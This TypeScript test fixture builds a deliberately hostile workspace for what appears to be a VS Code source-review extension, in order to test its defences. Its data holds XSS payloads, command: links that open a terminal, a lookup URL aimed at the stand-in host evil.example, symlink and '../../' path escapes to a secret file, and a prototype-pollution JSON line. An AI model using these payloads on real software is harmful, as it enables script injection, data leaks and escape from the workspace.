import * as fs from 'node:fs/promises';
import * as path from 'node:path';
import { changeOf } from '../../src/review/acts/changeOf';
import { quoteAnchors } from '../../src/review/anchors/quoteAnchors';
import { fingerprintOf } from '../../src/review/sources/fingerprint';
import { recordFileName } from '../../src/review/store/recordFileName';
import { RecordsFolder } from '../../src/review/store/recordsFolder';
import { folderOfFiles } from '../unit/review/folderOfFiles';
import { quietSurroundings } from '../unit/review/memoryFiles';

/** What only the files outside say: whoever sees it has read them. */
export const SECRET = 'known only outside';
/** The name that the folder would sign with, and the site it would ask. */
export const STRANGER = 'Eve Stranger';
/** Does something in a page, in a terminal or on the network, wherever it is taken for more than words. */
export const ATTACK = [
	'<img src="https://evil.example/i.png" onerror="window.attacked=true">',
	'<script>window.attacked=true</script>',
	'[press](command:workbench.action.terminal.new)',
	'![i](https://evil.example/j.png)',
	'$(zap)',
].join(' ');

/** The texts, each with a `.source-review` of its own kind beside its folder, and the words that are reviewed. */
export const TEXTS = ['linked/seeds/linked.txt', 'files/seeds/files.txt', 'logs/seeds/logs.txt'] as const;
export const WORDS = 'carry 300 ships a year';
export const TEXT = [
	`“The lock will ${WORDS},” said Ada Lindqvist, the head of the harbour office.`,
	`“It is [safe](command:workbench.action.terminal.new) ${ATTACK},” said Tomas Beregi, a lawyer.`,
].join('\n\n');

const SETTINGS = {
	'sourceReview.files': ['**/*.txt'],
	'sourceReview.reviewer': STRANGER,
	'sourceReview.lookUp': { [STRANGER]: 'https://evil.example/?q={query}' },
	'sourceReview.statuses': ['unreviewed', 'checked', 'disputed', STRANGER].map((id) => ({ id, sign: '$(zap)' })),
	'sourceReview.agents.shareReviews': true,
};

/**
 * Makes a folder to be opened and one beside it, `outside`, which is nobody's business: links lead there, paths name it,
 * settings, records and articles attack.
 */
export async function makeHostileFolder(
	parent: string,
): Promise<{ readonly folder: string; readonly outside: string }> {
	const folder = path.join(parent, 'hostile');
	const outside = path.join(parent, 'outside');
	await write(path.join(folder, '.vscode', 'settings.json'), JSON.stringify(SETTINGS));
	await write(path.join(folder, 'other.txt'), TEXT);
	await write(path.join(outside, 'secret.txt'), `${SECRET}. ${TEXT}`);
	for (const text of TEXTS) {
		await write(path.join(folder, text), TEXT);
	}
	await linkTexts(folder, outside);
	await linkFolder(folder, outside);
	await linkFiles(folder, outside);
	await attackInRecords(folder);
	return { folder, outside };
}

/** Among the articles and their sources are links to a folder and to a file. */
async function linkTexts(folder: string, outside: string): Promise<void> {
	await write(path.join(outside, 'texts', 'letter.txt'), `${SECRET}. ${TEXT}`);
	await fs.symlink(path.join(outside, 'texts'), path.join(folder, 'linked', 'seeds', 'letters'));
	await write(path.join(folder, 'sources', 'call.txt'), TEXT);
	await fs.symlink(path.join(outside, 'secret.txt'), path.join(folder, 'sources', 'secret.txt'));
}

/** The whole folder of records is a link. */
async function linkFolder(folder: string, outside: string): Promise<void> {
	await review(path.join(outside, 'records'), 'seeds/linked.txt', SECRET);
	await fs.symlink(path.join(outside, 'records'), path.join(folder, 'linked', '.source-review'));
}

/** The folder is one, and what is in it are links. */
async function linkFiles(folder: string, outside: string): Promise<void> {
	const theirs = path.join(outside, 'files');
	await review(theirs, 'seeds/files.txt', SECRET);
	await write(path.join(theirs, 'version-1', recordFileName('seeds/files.txt')), SECRET);
	const ours = path.join(folder, 'files', '.source-review');
	await fs.mkdir(path.join(ours, 'acts'), { recursive: true });
	for (const name of await fs.readdir(theirs, { recursive: true })) {
		if (path.dirname(name) === 'acts' || (path.dirname(name) === '.' && path.extname(name) !== '')) {
			await fs.symlink(path.join(theirs, name), path.join(ours, name));
		}
	}
	await fs.symlink(path.join(theirs, 'version-1'), path.join(ours, 'version-1'));
}

/** Records that are files, and say what they should not. */
async function attackInRecords(folder: string): Promise<void> {
	const ours = path.join(folder, 'logs', '.source-review');
	await review(ours, 'seeds/logs.txt', ATTACK);
	await review(ours, '../../outside/secret.txt', ATTACK);
	const place = { path: '../../outside/secret.txt', words: fingerprintOf(TEXT) };
	const act = {
		id: '0e0e0e0e-0e0e0e0e.1',
		turn: 1,
		author: ATTACK,
		reviewer: ATTACK,
		time: ATTACK,
		kind: 'place',
		place,
	};
	const pollution = '{"__proto__":{"attacked":true},"constructor":{"prototype":{"attacked":true}}}';
	await write(
		path.join(ours, 'acts', '0123456789abcdef.0e0e0e0e-0e0e0e0e.jsonl'),
		`${JSON.stringify(act)}\n${pollution}\n`,
	);
	const page = { type: 'AnnotationPage', 'sr:schema': 1, 'sr:source': '../../outside/secret.txt', items: [] };
	await write(path.join(ours, recordFileName('../../outside/secret.txt')), JSON.stringify(page));
}

/** Leaves a review with a note in a folder of records. */
async function review(folder: string, text: string, note: string): Promise<void> {
	const owner = { author: 'e0e0e0e0', reviewer: () => STRANGER };
	const records = new RecordsFolder(folderOfFiles(folder), owner, quietSurroundings(text), (message) => {
		throw new Error(JSON.stringify(message));
	});
	const open = await records.text(text, () => fingerprintOf(TEXT));
	const start = TEXT.indexOf(WORDS);
	const target = quoteAnchors(TEXT, [{ start, end: start + WORDS.length }]);
	const of = { type: 'review', about: 'selection' } as const;
	const record = { id: `urn:review:${text}`, created: '2031-11-05T10:00:00.000Z', target, of };
	await open.act([changeOf(record, { status: 'false', note, judged: WORDS, tags: [note] })]);
	await records.settled();
}

async function write(file: string, text: string): Promise<void> {
	await fs.mkdir(path.dirname(file), { recursive: true });
	await fs.writeFile(file, text);
}
